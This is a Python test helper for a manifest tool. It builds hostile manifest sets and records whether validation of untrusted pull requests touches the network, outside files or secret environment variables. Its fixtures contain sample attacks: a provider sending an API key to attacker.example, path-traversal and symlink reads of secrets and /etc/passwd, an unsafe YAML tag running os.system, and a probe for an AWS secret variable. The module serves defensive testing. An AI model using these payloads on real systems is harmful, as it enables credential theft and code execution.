"""Untrusted pull requests: what ``validate`` and ``plan`` of a hostile manifest set may touch.

CI runs them on code nobody has reviewed yet, so they must not reach the network, read files
outside the manifests root, or read environment variables beyond a small allowed set; the child
process in ``guarded_child.py`` records all three.
"""

from __future__ import annotations

import fnmatch
import json
import os
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path

from reconciler.manifests.parsecache import default_directory
from tests.conftest import REPO

CANARY = "canary-outside-the-root-7f3a"
# what the interpreter, click, pydantic and reconciler's own settings legitimately read
ALLOWED_ENV = (
    "RECONCILER_*", "_RECONCILER_COMPLETE", "HOME", "PATH", "LANG", "LANGUAGE", "LC_*", "TERM", "NO_COLOR", "FORCE_COLOR",
    "COLUMNS", "LINES", "TZ", "PYTHON*", "_PYTHON*", "PYDANTIC_*", "TMPDIR", "TEMP", "TMP", "XDG_CACHE_HOME",
)
PROVIDER_OK = """\
apiVersion: reconciler/v1
kind: Provider
metadata: {name: evil}
spec:
  type: openai
  base_url: http://attacker.example:8080/v1
  api_key: {from_env: OPENAI_API_KEY}
"""
TASK_REMOTE_REF = """\
apiVersion: reconciler/v1
kind: Task
metadata: {name: remote-ref}
spec:
  response_schema:
    $schema: http://attacker.example/meta.json
    $id: http://attacker.example/id.json
    allOf: [{$ref: "http://attacker.example/schema.json"}]
"""


def _task(name: str, path: str) -> str:
    return f"apiVersion: reconciler/v1\nkind: Task\nmetadata: {{name: {name}}}\nspec:\n  response_schema: {{from_file: {path}}}\n"


def hostile_sets(base: Path) -> dict[str, Path]:
    """Manifest roots: 'refused' (every trick at once), 'accepted' (valid but pointing at an
    attacker), 'env-probe' (valid, but its key comes from a CI secret's variable)."""
    outside = base / "outside"
    outside.mkdir(parents=True, exist_ok=True)
    (outside / "secret.json").write_text(json.dumps({"description": CANARY}))
    (outside / "key.txt").write_text(CANARY)
    (outside / "inputs.jsonl").write_text(json.dumps({"input": CANARY}) + "\n")
    refused = base / "refused"
    refused.mkdir(exist_ok=True)
    link = refused / "link.json"
    if not link.is_symlink():
        link.symlink_to(outside / "secret.json")
    (refused / "a.yaml").write_text(
        "---\n".join(
            [
                PROVIDER_OK,
                PROVIDER_OK.replace("name: evil", "name: evil-file").replace("{from_env: OPENAI_API_KEY}", "{from_file: ../outside/key.txt}"),
                _task("dotdot", "../outside/secret.json"),
                _task("absolute", str(outside / "secret.json")),
                _task("symlink", "link.json"),
                _task("passwd", "/etc/passwd"),
                "apiVersion: reconciler/v1\nkind: Run\nmetadata: {name: r}\nspec:\n  assignment: x\n  inputs_file: ../outside/inputs.jsonl\n",
            ]
        )
    )
    (refused / "b.yaml").write_text("!!python/object/apply:os.system ['cat /etc/passwd']\n")
    accepted = base / "accepted"
    accepted.mkdir(exist_ok=True)
    (accepted / "a.yaml").write_text(PROVIDER_OK + "---\n" + TASK_REMOTE_REF)
    probe = base / "env-probe"
    probe.mkdir(exist_ok=True)
    (probe / "a.yaml").write_text(PROVIDER_OK.replace("OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY"))
    return {"refused": refused, "accepted": accepted, "env-probe": probe}


@dataclass
class Access:
    exit_code: int
    outside_files: list[str] = field(default_factory=list)
    outside_listings: list[str] = field(default_factory=list)
    network: list[object] = field(default_factory=list)
    subprocesses: list[object] = field(default_factory=list)
    env_outside: list[str] = field(default_factory=list)
    env_enumerated: list[object] = field(default_factory=list)
    output: str = ""


def _allowed_roots(root: Path, cwd: Path, db_file: Path | None, env: dict[str, str]) -> list[Path]:
    roots = [root.resolve(), (REPO / "reconciler").resolve(), Path("/dev"), Path("/proc/self")]
    cache = default_directory(env)  # the parse cache: reconciler's own files, in the user's cache directory
    if cache is not None:
        roots.append(cache.resolve())
    roots += [Path(p).resolve() for p in sys.path if p and Path(p).is_dir() and Path(p).resolve() not in {REPO.resolve(), cwd.resolve()}]
    roots += [Path(sys.prefix).resolve(), Path(sys.base_prefix).resolve()]
    # reconciler's own package metadata (an editable install keeps it beside the sources)
    roots += [p.resolve() for p in REPO.glob("*.egg-info")]
    if db_file is not None:  # the state database and its companions, not the directory around it
        roots += [db_file.resolve().with_name(db_file.name + suffix) for suffix in ("", "-journal", "-wal", "-shm", ".lock")]
    return roots


def _import_hook_entry(p: str) -> bool:
    """A sys.path entry an editable install adds for its import hook: a name, not a file; the import
    system looks it up relative to the working directory, and nothing is read."""
    return p.startswith("__editable__.") and p.endswith(".__path_hook__")


def _inside(path: Path, roots: list[Path]) -> bool:
    return any(path == r or r in path.parents for r in roots)


def guarded_run(args: list[str], root: Path, cwd: Path, *, env: dict[str, str], db_file: Path | None = None) -> Access:
    """Run ``reconciler ARGS`` in a recording child; return everything it touched outside what is allowed."""
    record = cwd / "access.json"
    proc = subprocess.run(
        [sys.executable, "-m", "tests.reliability.guarded_child", str(record), *args],
        cwd=cwd, env={**env, "PYTHONPATH": str(REPO)}, capture_output=True, text=True, timeout=120,
    )
    data = json.loads(record.read_text())
    record.unlink()
    roots = _allowed_roots(root, cwd, db_file, env)
    access = Access(data["exit_code"], output=proc.stdout + proc.stderr)
    for p in dict.fromkeys(data["open"]):
        resolved = (cwd / p).resolve()
        if resolved != record.resolve() and not _inside(resolved, roots) and not _import_hook_entry(p):
            access.outside_files.append(p)
    for p in dict.fromkeys(data["listdir"]):
        resolved = (cwd / p).resolve()
        if resolved not in {cwd.resolve(), REPO.resolve()} and not _inside(resolved, roots) and not _import_hook_entry(p):  # import path scans
            access.outside_listings.append(p)
    access.network = data["network"]
    access.subprocesses = [s for s in data["subprocess"] if "'git'" not in str(s)]  # git describes the checkout
    allowed_env = (*ALLOWED_ENV, *[k for k in env if k.endswith("_API_KEY")])
    access.env_outside = sorted({k for k in data["env"] if not any(fnmatch.fnmatchcase(k, p) for p in allowed_env)})
    access.env_enumerated = data["env_enumerated"]
    return access


def base_env(secret_key: str) -> dict[str, str]:
    """A CI-like environment full of secrets the manifests must not be able to reach."""
    keep = {k: v for k, v in os.environ.items() if k in {"PATH", "HOME", "LANG", "TMPDIR"}}
    return {
        **keep,
        "RECONCILER_SECRET_KEY": secret_key,
        "OPENAI_API_KEY": "sk-allowed-test-key",
        "AWS_SECRET_ACCESS_KEY": CANARY,
        "GITHUB_TOKEN": CANARY,
    }
